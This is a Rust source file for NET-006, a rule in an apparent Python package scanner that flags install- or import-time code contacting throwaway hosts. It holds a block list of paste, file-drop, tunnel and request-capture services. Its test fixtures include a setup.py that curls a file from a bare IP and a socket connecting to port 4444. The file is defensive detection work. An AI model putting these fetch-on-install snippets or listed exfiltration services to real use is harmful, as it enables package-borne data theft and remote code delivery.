//! `NET-006`: something is fetched from or sent to a host that nobody answers for.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{command_lines, host_of, hosts, is_public};
use super::{Rule, even_if_asked, in_context, observe_call};
use crate::python::{Analysis, Call, Context, Module, SinkKind};

/// The rule.
pub(super) struct ThrowawayHosts;

impl Rule for ThrowawayHosts {
    fn id(&self) -> &'static str {
        "NET-006"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "a host that nobody answers for is spoken to"
    }

    fn manual(&self) -> &'static str {
        "Code that runs on installation or import speaks to a paste board, a tunnel, a \
         service that collects requests, an address of numbers, or a name in a foreign \
         script.\n\n\
         Such hosts are made in a minute and gone the next; publishers of packages have \
         better ones, attackers do not.\n\n\
         Mistaken for it: examples, and addresses of one's own network, which are not \
         counted."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        let modules = analysis.modules.iter();
        let calls = modules.flat_map(|module| module.calls.iter().map(move |call| (module, call)));
        for (_, call) in calls.filter(|(module, call)| speaks(call) && !only_looks(module, call)) {
            let addresses = hosts(call)
                .into_iter()
                .map(str::to_owned)
                .chain(named_in_commands(call));
            let Some(host) = addresses.into_iter().find(|host| is_throwaway(host)) else {
                continue;
            };
            // A bare address is nobody's service, whoever calls what speaks to it.
            let severity = match is_address(&host) {
                true => even_if_asked(Severity::High, call.context),
                false => in_context(Severity::High, call.context),
            };
            let is_certain = is_address(&host) && call.context == Context::Import;
            let sure = if is_certain { 90 } else { 75 };
            let confidence = Confidence::of(sure).in_context(call.context);
            let message = format!("{} speaks to {host}, which nobody answers for", call.target);
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

/// Whether a connection is made to learn the machine's own address by it: nothing goes through it.
fn only_looks(module: &Module, call: &Call) -> bool {
    let talks = |other: &Call| {
        let name = other.target.rsplit('.').next().unwrap_or_default();
        let is_used = matches!(
            name,
            "send" | "sendall" | "recv" | "recv_into" | "makefile" | "dup2"
        ) || other.sink == Some(SinkKind::Command);
        is_used && other.function == call.function
    };
    // Asking for the name of an address reaches nobody.
    if call.target.starts_with("socket.get") && hosts(call).iter().all(|host| is_address(host)) {
        return true;
    }
    let is_connection = call.target.ends_with("().connect");
    is_connection && !call.context.is_unasked() && !module.calls.iter().any(talks)
}

fn speaks(call: &Call) -> bool {
    matches!(
        call.sink,
        Some(SinkKind::Send | SinkKind::Resolve | SinkKind::Command)
    )
}

fn named_in_commands(call: &Call) -> Vec<String> {
    let lines = command_lines(call);
    let words = lines
        .iter()
        .flat_map(|line| line.split([' ', '"', '\'', '(', '=']));
    words.filter_map(host_of).map(str::to_owned).collect()
}

/// Services for pasting, dropping files, tunnels, collecting requests and asking for one's address:
/// the host itself and everything below it.
const SERVICES: &[&str] = &[
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "rentry.co",
    "rentry.org",
    "ghostbin.com",
    "dpaste.com",
    "dpaste.org",
    "ix.io",
    "termbin.com",
    "controlc.com",
    "paste.rs",
    "pastes.io",
    "0x0.st",
    "transfer.sh",
    "file.io",
    "gofile.io",
    "anonfiles.com",
    "bashupload.com",
    "catbox.moe",
    "litterbox.moe",
    "temp.sh",
    "oshi.at",
    "filebin.net",
    "ngrok.io",
    "ngrok.app",
    "ngrok.dev",
    "ngrok-free.app",
    "ngrok-free.dev",
    "trycloudflare.com",
    "loca.lt",
    "localhost.run",
    "serveo.net",
    "lhr.life",
    "pinggy.link",
    "playit.gg",
    "bore.pub",
    "duckdns.org",
    "no-ip.org",
    "ddns.net",
    "hopto.org",
    "zapto.org",
    "burpcollaborator.net",
    "oastify.com",
    "oast.fun",
    "oast.me",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "interact.sh",
    "interactsh.com",
    "canarytokens.com",
    "dnslog.cn",
    "ceye.io",
    "requestbin.com",
    "requestbin.net",
    "pipedream.net",
    "webhook.site",
    "hookbin.com",
    "beeceptor.com",
    "requestcatcher.com",
    "requestrepo.com",
    "mockbin.org",
    "ipinfo.io",
    "ipify.org",
    "ifconfig.me",
    "icanhazip.com",
    "ip-api.com",
    "checkip.amazonaws.com",
    "discordapp.net",
    "onion",
    "i2p",
];

fn is_throwaway(host: &str) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if let Ok(address) = host.parse() {
        // The metadata service of clouds and public name servers are asked for what they are.
        let is_known = matches!(
            &*host,
            "8.8.8.8" | "8.8.4.4" | "1.1.1.1" | "1.0.0.1" | "9.9.9.9"
        );
        return is_public(address) && !is_known;
    }
    let is_foreign = host.split('.').any(|label| label.starts_with("xn--")) || !is_plain(&host);
    let is_service = |service: &&str| {
        host.strip_suffix(*service)
            .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
    };
    is_foreign || is_number(&host) || SERVICES.iter().any(is_service)
}

/// Whether `host` is an address rather than a name.
fn is_address(host: &str) -> bool {
    host.parse::<std::net::IpAddr>().is_ok() || is_number(host)
}

fn is_plain(host: &str) -> bool {
    host.chars()
        .all(|each| each.is_ascii() || each == crate::python::HOLE)
}

/// An address written as one number, `0xc0000201`.
fn is_number(host: &str) -> bool {
    let digits = host.strip_prefix("0x");
    let is_hex = digits
        .is_some_and(|rest| rest.len() == 8 && rest.bytes().all(|each| each.is_ascii_hexdigit()));
    is_hex || (9..=10).contains(&host.len()) && host.bytes().all(|each| each.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn hosts_that_nobody_answers_for_are_seen() {
        for (path, code) in [
            (
                "setup.py",
                "import urllib.request as u\nu.urlopen('http://192.0.2.7:8080/a')",
            ),
            (
                "demo/__init__.py",
                "import requests\nrequests.get('https://xn--pthon-kva.invalid/a')",
            ),
            (
                "demo/__init__.py",
                "import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))",
            ),
            (
                "setup.py",
                "import os\nos.system('curl http://198.51.100.3/a -o a')",
            ),
            (
                "demo.pth",
                "import urllib.request as u; u.urlopen('http://3221225985/')",
            ),
            (
                "demo/__init__.py",
                "import requests\ndef demo():\n    requests.get('http://192.0.2.7/')",
            ),
        ] {
            found("NET-006", path, code);
        }
    }

    #[test]
    fn known_and_near_hosts_are_not() {
        for (path, code) in [
            (
                "setup.py",
                "import urllib.request as u\nu.urlopen('https://files.invalid/a')",
            ),
            (
                "demo/__init__.py",
                "import requests\nrequests.get('http://127.0.0.1:8000/health')",
            ),
            (
                "demo/__init__.py",
                "import socket\ns = socket.socket()\ns.connect(('8.8.8.8', 80))",
            ),
            (
                "demo/__init__.py",
                "import requests\ndef demo():\n    requests.get('https://transfer.sh/a')",
            ),
            (
                "demo/__init__.py",
                "import socket\ndef own_address():\n    s = socket.socket()\n    s.connect(('192.0.2.7', 1))\n    return s.getsockname()",
            ),
        ] {
            quiet("NET-006", path, code);
        }
    }

    #[test]
    fn services_count_with_everything_below_them_and_nothing_beside_them() {
        for service in super::SERVICES {
            assert!(super::is_throwaway(&format!("a.{service}")), "{service}");
            assert!(
                !super::is_throwaway(&format!("not{service}.invalid")),
                "{service}"
            );
        }
    }
}
